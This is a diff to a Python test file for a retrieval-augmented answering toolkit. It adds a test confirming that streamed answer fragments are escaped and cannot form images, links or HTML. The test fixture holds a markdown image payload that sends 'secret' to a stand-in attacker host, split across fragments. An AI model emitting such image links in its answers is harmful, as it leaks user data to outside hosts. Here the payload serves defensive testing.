@@ -6,6 +6,7 @@ output; the real model answers in test_query.py.
 
 from __future__ import annotations
 
+import re
 from collections.abc import Iterator
 
 from ragkit.answer import MARKER, build_messages, cited_numbers, generate, language_of, quote, supporting
@@ -112,3 +113,16 @@ def test_wrong_citations_are_repaired_from_the_passages() -> None:
 def test_chinese_numbers_are_separate_terms() -> None:
     passages = ["一线城市每晚不超过600元，其他城市400元。", "餐饮补助每天150元。"]
     assert supporting("一线城市住宿上限是多少？", "上限是600元。", passages, []) == [1]
+
+
+def test_streamed_pieces_cannot_form_images_links_or_html() -> None:
+    from ragkit.render import highlighted_passage, neutralize
+
+    pieces = ["See ![", "x](http://evil.example/?q=secret", ") and <img src=", "'http://e/'> [1]"]
+    shown = "".join(neutralize(p) for p in pieces)
+    assert re.search(r"(?<!\\)[!\[\]<>]", shown) is None  # every active character is escaped
+    assert "\\[1\\]" in shown  # citations still read as [1]
+    passage = "Intro line.\nEvery password must be at least 14 characters long. ![](http://x/y)"
+    rendered = highlighted_passage(passage, "14 characters")
+    assert "**Every password must be at least 14 characters long\\.**" in rendered
+    assert "![](" not in rendered
